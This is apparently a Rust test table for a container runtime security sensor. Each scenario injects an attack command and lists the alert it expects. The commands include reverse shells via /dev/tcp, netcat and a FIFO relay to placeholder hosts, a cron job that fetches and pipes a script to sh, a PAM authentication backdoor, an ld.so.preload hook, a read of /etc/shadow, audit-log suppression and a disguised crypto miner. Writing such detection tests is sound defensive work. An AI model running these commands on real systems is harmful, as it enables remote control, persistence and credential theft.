//! The scanner's and the file watcher's rows of the attack scenario table (see scenarios.rs for the
//! types, scenario_rows.rs for the exec rows).

use super::rows::{EXEC, NO_BASELINE};
use super::{Arrival, Needs, Runs, Scenario, Tool};

/// A FIFO reverse shell: `sh -i` reads a pipe fed from a FIFO that a relay holding the socket writes
/// (python here; `nc` in the wild).
const FIFO_SHELL: &str = "rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | sh -i 2>&1 | python3 -c \"import socket,sys,threading;s=socket.create_connection(('{gw}',{lport}));threading.Thread(target=lambda:([s.sendall(d) for d in iter(lambda:sys.stdin.buffer.read1(4096),b'')],s.shutdown(socket.SHUT_WR)),daemon=True).start();[(sys.stdout.buffer.write(d),sys.stdout.buffer.flush()) for d in iter(lambda:s.recv(4096),b'')]\" > /tmp/.f";

/// The scanner's, the syscall mode's and the file watcher's rows.
pub const SENSOR_ROWS: &[Scenario] = &[
    // The scanner's categories: what a process does after its exec (rewired stdio, connections,
    // listeners, mapped libraries) and processes that escaped tracing.
    Scenario {
        name: "reverse-shell-rewired",
        arrival: Arrival::Connect {
            inject: "bash -c 'exec 5<>/dev/tcp/{gw}/{lport}; exec 0<&5 1>&5 2>&5; while read -r l; do eval \"$l\"; done'",
            typed: "echo rewired; sleep 2.5",
            port: 0,
        },
        category: "Reverse Shell",
        severity: "CRITICAL",
        rule: "reverse_shell_stdio_rewired",
        technique: "T1059.004",
        fields: &[("/processes/0/name", "=bash"), ("/processes/0/stdio/stdin", "->{gw}:{lport}")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // The same relay with netcat: named at the exec of sh or nc (whichever starts second) from the
        // pipeline view, before any socket.
        name: "reverse-shell-netcat-pipeline",
        arrival: Arrival::Connect {
            inject: "rm -f /tmp/.g; mkfifo /tmp/.g; cat /tmp/.g | sh -i 2>&1 | nc {gw} {lport} > /tmp/.g",
            typed: "id",
            port: 0,
        },
        category: "Reverse Shell",
        severity: "CRITICAL",
        rule: "reverse_shell_netcat_pipeline",
        technique: "T1059.004",
        fields: &[("/description", "nc {gw} {lport}")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // mkfifo: the shell's stdin is a pipe fed through a FIFO by a relay holding the socket.
        name: "reverse-shell-fifo",
        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "id; sleep 2.5", port: 0 },
        category: "Reverse Shell",
        severity: "CRITICAL",
        rule: "reverse_shell_stdio_rewired",
        technique: "T1059.004",
        fields: &[
            ("/processes/0/args", "=sh -i"),
            ("/processes/0/stdio/stdin", "through python3"),
            ("/processes/0/stdio/stdin", "->{gw}:{lport}"),
        ],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "remote-command-rewired",
        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "sleep 2.5 | cat", port: 0 },
        category: "Execution: Possible Remote Command Execution Detected",
        severity: "MEDIUM",
        rule: "remote_command_stdio_rewired",
        technique: "T1059.004",
        fields: &[("/processes/0/name", "=cat"), ("/processes/0/stdio/stdout", "->{gw}:{lport}")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // A copy of python renamed like a kernel thread, logging in to a pool on a Stratum port.
        name: "stratum-connection",
        arrival: Arrival::Connect {
            inject: "mkdir -p /tmp/.cache && cp $(readlink -f /usr/bin/python3) /tmp/.cache/kworkerds && /tmp/.cache/kworkerds -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.sendall(b'mining.subscribe\\n');s.recv(512);time.sleep(2.5)\"",
            typed: "{\"id\":1,\"result\":[[\"mining.notify\",\"ae6812eb\"],\"08000002\",4],\"error\":null}",
            port: 3333,
        },
        category: "Impact: Suspicious crypto mining activity using the Stratum Protocol",
        severity: "HIGH",
        rule: "stratum_pool_connection",
        technique: "T1496",
        fields: &[
            ("/processes/0/binary/path", "=/tmp/.cache/kworkerds"),
            ("/connections/0/destinationIp", "={gw}"),
            ("/connections/0/destinationPort", "={lport}"),
        ],
        needs: Needs::ExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        // The suites list the attacker's address in the policy directory's ioc/ips.txt.
        name: "connection-to-ioc-address",
        arrival: Arrival::Connect {
            inject: "python3 -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.recv(64);s.sendall(b'beacon');time.sleep(2.5)\"",
            typed: "task: beacon",
            port: 0,
        },
        category: "Command and Control: Connection to Known Bad Address",
        severity: "HIGH",
        rule: "connection_to_ioc_address",
        technique: "T1071",
        fields: &[
            ("/processes/0/args", "create_connection"),
            ("/indicator/ipAddresses/0", "={gw}"),
            ("/connections/0/destinationPort", "={lport}"),
        ],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "bind-shell-listener",
        arrival: Arrival::Injection(
            "python3 -c \"import socket,time;s=socket.socket();s.bind(('0.0.0.0',0));s.listen(1);time.sleep(2.5)\"",
        ),
        category: "Command and Control: New Listening Socket",
        severity: "MEDIUM",
        rule: "new_listening_socket",
        technique: "T1571",
        fields: &[("/processes/0/args", "s.listen(1)"), ("/connections/0/protocol", "=TCP")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "added-library",
        arrival: Arrival::Injection(
            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libhook.so && LD_PRELOAD=/tmp/.x/libhook.so sleep 2.5",
        ),
        category: "Added Library Loaded",
        severity: "LOW",
        rule: "added_library_loaded",
        technique: "T1129",
        fields: &[("/processes/0/name", "=sleep"), ("/processes/0/libraries/0/path", "=/tmp/.x/libhook.so")],
        needs: Needs::ExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        name: "added-malicious-library",
        arrival: Arrival::Injection(
            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libprocesshider.so && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.x/libprocesshider.so && LD_PRELOAD=/tmp/.x/libprocesshider.so sleep 2.5",
        ),
        category: "Execution: Added Malicious Library Loaded",
        severity: "CRITICAL",
        rule: "added_malicious_library_loaded",
        technique: "T1129",
        fields: &[
            ("/processes/0/libraries/0/path", "=/tmp/.x/libprocesshider.so"),
            ("/indicator/signatures/0/yaraRuleSignature/yaraRule", "=miner_xmrig_family"),
        ],
        needs: Needs::ExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        // An image library rewritten in place (the baseline has its old hash), then preloaded.
        name: "modified-malicious-library",
        arrival: Arrival::Injection(
            "cp /usr/lib/x86_64-linux-gnu/libffi.so.8 /tmp/.l && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.l && cat /tmp/.l > /usr/lib/x86_64-linux-gnu/libffi.so.8 && LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libffi.so.8 sleep 2.5",
        ),
        category: "Execution: Modified Malicious Library Loaded",
        severity: "CRITICAL",
        rule: "modified_malicious_library_loaded",
        technique: "T1129",
        fields: &[
            ("/processes/0/libraries/0/path", "/usr/lib/x86_64-linux-gnu/libffi.so.8"),
            ("/indicator/signatures/0/yaraRuleSignature/yaraRule", "=miner_xmrig_family"),
        ],
        needs: Needs::RootWritable,
        runs: Runs::NotInGvisor(NO_BASELINE),
    },
    Scenario {
        // A dropped binary that forks with CLONE_UNTRACED (the test fixture's untraced-child mode).
        name: "untraced-process",
        arrival: Arrival::Dropped { tool: Tool::Fixture("rw-fixture"), at: "/tmp/.x/rw-fixture", run: "{at} untraced-child 2" },
        category: "Defense Evasion: Untraced Process Detected",
        severity: "HIGH",
        rule: "untraced_process",
        technique: "T1562.001",
        fields: &[("/processes/0/binary/path", "=/tmp/.x/rw-fixture")],
        needs: Needs::PtraceExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        // A dropped binary whose children change their execve arguments from a second thread while
        // the seccomp sensor reads them (the test fixture's argv-race mode: 40 racing execs, one at a time).
        name: "exec-changed-after-inspection",
        arrival: Arrival::Dropped { tool: Tool::Fixture("rw-fixture"), at: "/tmp/.x/rw-race", run: "{at} argv-race 40" },
        category: "Defense Evasion: Exec Changed After Inspection",
        severity: "HIGH",
        rule: "exec_arguments_changed",
        technique: "T1562.001",
        fields: &[("/sourceProperties/inspected/args", "sleep 1"), ("/processes/0/args", "sleep 1")],
        needs: Needs::SeccompSensor,
        runs: Runs::NotInGvisor(
            "gVisor offers no seccomp listener: ptrace runs there, which reads an exec after the kernel \
             copied it, so there is nothing to race",
        ),
    },
    // The opt-in syscall mode's categories (a container with RUNWARDEN_SYSCALLS=default): the call is
    // seen before it runs; both fail here (every workload process is already traced by runwarden, and
    // containers lack CAP_SYS_MODULE), the attempt is the signal.
    Scenario {
        name: "ptrace-attempt",
        arrival: Arrival::Injection(
            "python3 -c \"import ctypes,os;libc=ctypes.CDLL(None);print(libc.ptrace(16,os.getppid(),0,0))\"",
        ),
        category: "Defense Evasion: Ptrace Attempt",
        severity: "MEDIUM",
        rule: "syscall_ptrace_attempt",
        technique: "T1055.008",
        fields: &[
            ("/processes/0/args", "libc.ptrace(16"),
            ("/sourceProperties/syscall/request", "=PTRACE_ATTACH"),
        ],
        needs: Needs::Syscalls,
        runs: EXEC,
    },
    Scenario {
        name: "kernel-module-syscall",
        arrival: Arrival::Injection("python3 -c \"import ctypes;libc=ctypes.CDLL(None);print(libc.syscall(175,None,0,b''))\""),
        category: "Persistence: Kernel Module Load Attempt",
        severity: "HIGH",
        rule: "syscall_kernel_module_load",
        technique: "T1547.006",
        fields: &[("/processes/0/args", "libc.syscall(175"), ("/sourceProperties/syscall/name", "=init_module")],
        needs: Needs::Syscalls,
        runs: Runs::NotInDocker(
            "Docker's default seccomp profile answers init_module and finit_module with EPERM itself, and a \
             filter's ERRNO outranks runwarden's TRACE: the call never stops (the exec rule still catches \
             insmod and modprobe)",
        ),
    },
    // The file watcher's categories, by injected commands that change or read files (root only:
    // as a non-root user, or with a read-only root file system, these writes fail).
    Scenario {
        name: "ld-so-preload",
        arrival: Arrival::Injection("echo /tmp/.x/libhide.so > /etc/ld.so.preload; sleep 0.5; rm -f /etc/ld.so.preload"),
        category: "Persistence: Modify ld.so.preload",
        severity: "HIGH",
        rule: "file_ld_preload_modified",
        technique: "T1574.006",
        fields: &[("/files/0/path", "=/etc/ld.so.preload")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "cron",
        arrival: Arrival::Injection("echo '* * * * * root curl -fsS {web}/c.sh | sh' > /etc/cron.d/.sync"),
        category: "Execution: Suspicious Cron Modification",
        severity: "MEDIUM",
        rule: "file_cron_modified",
        technique: "T1053.003",
        fields: &[("/files/0/path", "=/etc/cron.d/.sync")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "pam",
        arrival: Arrival::Injection("echo 'auth sufficient pam_permit.so' >> /etc/pam.d/common-auth"),
        category: "Collection: Pam.d Modification",
        severity: "HIGH",
        rule: "file_pam_modified",
        technique: "T1556.003",
        fields: &[("/files/0/path", "=/etc/pam.d/common-auth"), ("/files/0/operation", "=MODIFY")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "shadow-read",
        // Held open for a moment so the watcher can name the reader (inotify never does).
        arrival: Arrival::Injection("python3 -c \"import time;f=open('/etc/shadow');time.sleep(1);f.read()\""),
        category: "Credential Access: Access Sensitive Files On Nodes",
        severity: "MEDIUM",
        rule: "file_sensitive_file_opened",
        technique: "T1003.008",
        fields: &[("/files/0/path", "=/etc/shadow"), ("/files/0/operation", "=OPEN")],
        needs: Needs::Root,
        runs: EXEC,
    },
    Scenario {
        name: "audit-config",
        arrival: Arrival::Injection("echo '*.* ~' > /etc/rsyslog.conf"),
        category: "Defense Evasion: Disable or Modify Linux Audit System",
        severity: "MEDIUM",
        rule: "file_audit_config_modified",
        technique: "T1562.012",
        fields: &[("/files/0/path", "=/etc/rsyslog.conf")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "root-certificate",
        arrival: Arrival::Injection("curl -fsS {web}/f/mitm.pem -o /etc/ssl/certs/mitm-ca.pem"),
        category: "Defense Evasion: Root Certificate Installed",
        severity: "MEDIUM",
        rule: "file_root_certificate_installed",
        technique: "T1553.004",
        fields: &[("/files/0/path", "=/etc/ssl/certs/mitm-ca.pem")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "sensor-tampering",
        arrival: Arrival::Injection("chmod 0644 {runwarden}"),
        category: "Defense Evasion: Sensor Tampering",
        severity: "HIGH",
        rule: "file_sensor_tampering",
        technique: "T1562.001",
        fields: &[("/files/0/path", "={runwarden}"), ("/files/0/operation", "=ATTRIB")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
];
